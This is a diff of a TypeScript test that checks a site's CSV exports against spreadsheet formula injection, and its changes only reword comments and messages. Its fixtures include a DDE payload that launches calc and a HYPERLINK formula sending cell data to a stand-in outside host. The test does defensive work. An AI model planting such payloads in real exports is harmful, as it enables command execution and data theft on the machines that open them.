@@ -12,7 +12,7 @@ import { withWeakened } from './weakened-program.ts';
 
 const ADMIN = '+15550001111';
 const NOON = Date.UTC(2025, 5, 14, 12);
-/** What spreadsheets take for the begin of a formula, the wide forms of Chinese and Japanese keyboards included. */
+/** Characters that start a formula in spreadsheets, with the wide forms of Chinese and Japanese keyboards. */
 const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
 const FORMULAS = [
   '',
@@ -20,14 +20,14 @@ const FORMULAS = [
   "cmd|' /C calc'!A0",
   'HYPERLINK("https://elsewhere.example/?"&A1,"x")',
 ];
-/** Cells with a formula for spreadsheets that split at other characters than commas. */
+/** Cells with a formula for spreadsheets that split at semicolons, tabs or line breaks. */
 const WITHIN = [';', ';"', ';""', '\t', '\r\n'].flatMap((cut) =>
   STARTS.filter((start) => start.trim() !== '').map((start) => `a${cut}${start}1+1;b`),
 );
 const START = `[${STARTS.join('').replace('-', '\\-')}]`;
 const BEGINS = new RegExp(`^(?=${START})`);
 const BEGINS_WITHIN = new RegExp(`([;\t\r\n]"*)(?=${START})`, 'g');
-/** What is no formula, but must come back as it was. */
+/** Texts without a formula, which must be exported unchanged. */
 const PLAIN = [
   'ana',
   'a=b',
@@ -51,13 +51,13 @@ const texts = [
 
 export const inertCsv: Proof = {
   id: 'V5',
-  promise: 'No cell of a CSV that the site exports is a formula, and each is otherwise as it was.',
+  promise: 'No cell of an exported CSV is a formula, and every other text is exported unchanged.',
   variants: testEngines.map(({ name }) => name),
   run: (engine) => exportTexts(engine),
   control: { without: 'the apostrophe before a formula', run: exportTextsWeakened },
 };
 
-/** Leaves formulas as they are, and expects that it is noticed. */
+/** Runs the check with a program that exports formulas unchanged. It must fail. */
 export function exportTextsWeakened(engine: string): Promise<string> {
   return withWeakened(
     'server/analytics/csv.ts',
@@ -71,7 +71,7 @@ export async function exportTexts(engine: string, program: string = PROGRAM): Pr
   const server = await startServer({ engine, program, env: { RATE_LIMITS: 'off' } });
   const storage = await openStorage(server.databaseUrl, 'command');
   try {
-    // Into the storage itself: the calls refuse some, and what they refuse may change.
+    // Written directly to the storage, because the calls refuse some of these texts.
     for (const text of texts) {
       const profile = { firstName: text, profileImageUrl: null };
       await storage.inviters.put({ id: `${text}!`, username: text, ...profile });
@@ -92,7 +92,7 @@ export async function exportTexts(engine: string, program: string = PROGRAM): Pr
       waitlist.map(({ email }) => email),
       texts.map((text) => `${text}@example.com`),
     );
-    return `${texts.length} texts, ${STARTS.length * FORMULAS.length + WITHIN.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: 0 cells begin one, all others as they were`;
+    return `${texts.length} texts, ${STARTS.length * FORMULAS.length + WITHIN.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: 0 cells are one, all others unchanged`;
   } finally {
     await storage.close();
     await server.stop();
@@ -106,7 +106,7 @@ async function downloadAnalytics(url: string, storage: Storage): Promise<string>
   const { userId, headers } = await signIn({ storage, clock: Date.now, https: false }, ADMIN);
   const query = new URLSearchParams({ userId });
   const answer = await fetch(`${url}${calls.getAnalyticsCsv.path}?${query}`, { headers });
-  require(answer.status === 200, `The figures were answered ${answer.status}.`);
+  require(answer.status === 200, `The request for the figures was answered ${answer.status}.`);
   return await answer.text();
 }
 
@@ -116,7 +116,7 @@ async function exportWaitlist(databaseUrl: string, program: string): Promise<str
   return (await promisify(execFile)(process.execPath, parameters, { env })).stdout;
 }
 
-/** @throws unless it is CSV to the letter of RFC 4180, every text in quotes */
+/** @throws unless it is valid CSV (RFC 4180) with every text in quotes */
 function rowsOf(csv: string): Record<string, string>[] {
   require(csv.endsWith('\r\n'), 'The last line does not end with CRLF.');
   const options = { columns: true, record_delimiter: '\r\n', relax_quotes: false } as const;
@@ -130,6 +130,6 @@ function requireCells(cells: (string | undefined)[], originals: readonly string[
   require(running.length === 0, `A cell begins a formula: ${JSON.stringify(running[0])}`);
   const inert = originals.map((text) => text.replace(BEGINS_WITHIN, "$1'").replace(BEGINS, "'"));
   const missing = inert.filter((text) => !cells.includes(text));
-  require(missing.length === 0, `A cell did not come back: ${JSON.stringify(missing[0])}`);
+  require(missing.length === 0, `A cell is missing: ${JSON.stringify(missing[0])}`);
   require(cells.length === originals.length, `There are ${cells.length} rows.`);
 }
